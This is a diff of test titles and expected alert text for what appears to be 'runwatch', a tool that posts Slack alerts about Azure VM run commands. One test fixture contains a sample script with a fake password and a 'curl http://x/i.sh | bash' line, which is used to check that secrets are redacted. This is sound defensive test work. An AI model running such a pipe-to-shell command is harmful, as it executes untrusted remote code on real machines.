@@ -38,16 +38,16 @@ const run = (resourceId: string, extra: Record<string, unknown> = {}) =>
     ...extra,
   });
 
-test('says why they could: through which group, how many are in it, since when, by whom', async () => {
+test('shows the access path: the group, its size, and when and by whom it was assigned', async () => {
   await begin();
   run(bench.world.vms.pay01);
   const text = textOf(await alertOn('vm-pay-01'));
   expect(text).toMatch(
-    /Virtual Machine Contributor\* at subscription Payments, through group ops-oncall \(2 members\), assigned 3 days ago by lee@contoso\.example \(worked out from role assignments\)/,
+    /Virtual Machine Contributor\* at subscription Payments, through group ops-oncall \(2 members\), assigned 3 days ago by lee@contoso\.example \(inferred from role assignments\)/,
   );
 });
 
-test('what the log names wins over what is worked out, and is said so', async () => {
+test('a role named in the log wins over an inferred one, and is labeled as such', async () => {
   await begin();
   const evidence = {
     role: 'Owner',
@@ -58,7 +58,7 @@ test('what the log names wins over what is worked out, and is said so', async ()
   };
   run(bench.world.vms.pay01, { evidence });
   expect(textOf(await alertOn('vm-pay-01'))).toMatch(
-    /Owner\* at the root of the tenant.*\(named by Azure’s log\)/,
+    /Owner\* at the root of the tenant.*\(from Azure’s activity log\)/,
   );
 });
 
@@ -100,7 +100,7 @@ test('a custom role, a PIM activation with its end, and a condition are shown', 
   );
 });
 
-test('says who it is, what the machine’s identity gives, and what the caller can do besides', async () => {
+test('shows who the caller is, what the machine’s identity exposes and what else the caller can do', async () => {
   await begin();
   run(bench.world.vms.pay01, { authMethods: 'pwd' });
   const text = textOf(await alertOn('vm-pay-01'));
@@ -114,13 +114,13 @@ test('says who it is, what the machine’s identity gives, and what the caller c
   expect(text).toMatch(/waagent\/run-command/);
 });
 
-test('an application’s owners are named', async () => {
+test('an application’s owners are shown', async () => {
   await begin();
   run(bench.world.vms.web[0] ?? '', { caller: bench.world.people.patchBot });
   expect(textOf(await alertOn('vm-web-01'))).toMatch(/owned by lee@contoso\.example · an application/);
 });
 
-test('a managed run command shows its script without its secrets, its traits, output and exit code', async () => {
+test('a managed run command shows its redacted script, traits, output and exit code', async () => {
   await begin();
   const { tenant, world, slack } = bench;
   const script = 'set -e\nexport PASSWORD=Hunter2Hunter2\ncurl http://x/i.sh | bash\n';
@@ -141,7 +141,7 @@ test('a managed run command shows its script without its secrets, its traits, ou
   expect(everything).not.toMatch(/Hunter2|abcdefabcdef/);
 });
 
-test('is it normal: history from Azure’s 90 days says what is new', async () => {
+test('history from Azure’s 90 days shows what is unusual', async () => {
   const day = 86_400_000;
   await begin({}, ({ tenant, world }) => {
     for (let ago = 2; ago < 40; ago += 3)
@@ -160,7 +160,7 @@ test('is it normal: history from Azure’s 90 days says what is new', async () =
   run(bench.world.vms.pay01);
   const fresh = textOf(await alertOn('vm-pay-01'));
   expect(fresh).toMatch(
-    /first time on this machine \(0 in 89 days\) · new address · 1 refusal in the minutes before/,
+    /first time on this machine \(0 in 89 days\) · new IP address · 1 denied attempt just before/,
   );
   expect(fresh).toMatch(/\+15 \+8 \+12/);
   run(bench.world.vms.pay02, {
@@ -171,7 +171,7 @@ test('is it normal: history from Azure’s 90 days says what is new', async () =
   expect(textOf(await alertOn('vm-pay-02'))).toMatch(/▁/);
 });
 
-test('what else: the caller’s other doings hang in the thread, late ones too', async () => {
+test('the thread shows the caller’s other activity, including late events', async () => {
   await begin();
   const { tenant, world, slack } = bench;
   run(world.vms.pay01);
@@ -194,13 +194,13 @@ test('what else: the caller’s other doings hang in the thread, late ones too',
     at: Date.now() - 10_000,
     tookMs: 100,
   });
-  await until('the other machine, as moved on to', () =>
-    textOf(slack.messages.find((m) => m.threadTs === message.ts)).includes('vm-pay-02 (moved on to)'),
+  await until('the other machine in the thread', () =>
+    textOf(slack.messages.find((m) => m.threadTs === message.ts)).includes('vm-pay-02 (also targeted)'),
   );
   expect(slack.messages.filter((m) => m.threadTs === message.ts)).toHaveLength(1);
 });
 
-test('a storm on 200 machines is one alert that grows; a second caller stays a second', async () => {
+test('a storm on 200 machines is one alert that grows; a second caller gets a second alert', async () => {
   await begin();
   const { tenant, world, slack } = bench;
   const machines = Array.from(
@@ -226,7 +226,7 @@ test('a storm on 200 machines is one alert that grows; a second caller stays a s
   expect(textOf(thread)).toMatch(/vm-storm-0 · succeeded/);
 });
 
-test('an environment’s threshold keeps what is low to the digest', async () => {
+test('an environment’s threshold leaves low scores to the digest', async () => {
   const file = `/tmp/runwatch-policy-${process.pid}.yaml`;
   writeFileSync(file, 'environments:\n  test: {tags: {env: test}, alertFrom: 70}\n');
   await begin({ RUNWATCH_CONFIG: file });
@@ -245,27 +245,27 @@ test('an environment’s threshold keeps what is low to the digest', async () =>
   await store.close();
 });
 
-test('without role assignments the alert goes out, says what is missing, and is completed later', async () => {
+test('without role assignments the alert is posted, shows what is missing and is completed later', async () => {
   await begin({}, ({ tenant }) => tenant.faults.add({ when: /roleAssignments$/, status: 403 }));
   run(bench.world.vms.pay01);
-  await alertOn('vm-pay-01', 'Not known');
+  await alertOn('vm-pay-01', 'Unavailable');
   bench.tenant.faults.clear();
   await alertOn('vm-pay-01', 'through group ops-oncall');
-  expect(textOf(bench.slack.alerts()[0])).not.toMatch(/Not known/);
+  expect(textOf(bench.slack.alerts()[0])).not.toMatch(/Unavailable/);
 });
 
-test('what takes longer than five seconds is not waited for', async () => {
+test('an alert waits at most five seconds for a fact', async () => {
   await begin({}, ({ tenant }) =>
     tenant.faults.add({ when: /roleDefinitions$/, status: 200, delayMs: 9000, times: 1 }),
   );
   run(bench.world.vms.pay01);
-  const text = textOf(await alertOn('vm-pay-01', 'Not known'));
+  const text = textOf(await alertOn('vm-pay-01', 'Unavailable'));
   expect(text).toMatch(/role assignments: no answer within 5 s/);
   await alertOn('vm-pay-01', 'through group ops-oncall');
   expect(bench.slack.alerts()).toHaveLength(1);
 });
 
-test('roles and who-can print the same from the command line', async () => {
+test('roles and who-can give the same answers on the command line', async () => {
   await begin();
   const cli = join(__dirname, '../../dist/cli.js');
   const runwatch = (...args: string[]) =>
@@ -298,7 +298,7 @@ test('roles and who-can print the same from the command line', async () => {
   expect(lines(await runwatch('role-definitions', '--granting', runCommand))).toHaveLength(5);
 });
 
-test('a thousand alerts of one caller cost the role calls of one', async () => {
+test('many alerts of one caller need only the role calls of one', async () => {
   await begin();
   const { tenant, world } = bench;
   for (let i = 0; i < 300; i++) run(world.vms.pay01, { correlationId: `c-${i}`, caller: world.people.dana });
@@ -314,7 +314,7 @@ test('a thousand alerts of one caller cost the role calls of one', async () => {
   await store.close();
 });
 
-test('show_roles and /runwatch answer in private', async () => {
+test('show_roles and /runwatch answer privately', async () => {
   await begin();
   const { slack, world } = bench;
   run(world.vms.pay01);
@@ -345,7 +345,7 @@ test('show_roles and /runwatch answer in private', async () => {
   await until('status', () => slack.whispers.some((w) => w.text.includes('Payments: last read')));
 });
 
-test('extensions and Arc servers show what was run as well', async () => {
+test('extensions and Arc servers also show what was run', async () => {
   await begin();
   const { tenant, world } = bench;
   const extension = addChild(tenant, world.vms.pay01, 'extensions', 'CustomScript', {
@@ -382,7 +382,7 @@ test.each([
     'Microsoft.Compute/virtualMachineScaleSets/ss/virtualMachines/3',
     'Run command on a scale set on ss/3',
   ],
-])('%s is told in its own words', async (name, resource, title) => {
+])('%s has its own title', async (name, resource, title) => {
   await begin();
   run(`/subscriptions/${subscriptions.payments}/resourceGroups/rg-payments/providers/${resource}`, { name });
   await until(title, () => bench.slack.alerts().some((m) => textOf(m).includes(title)));
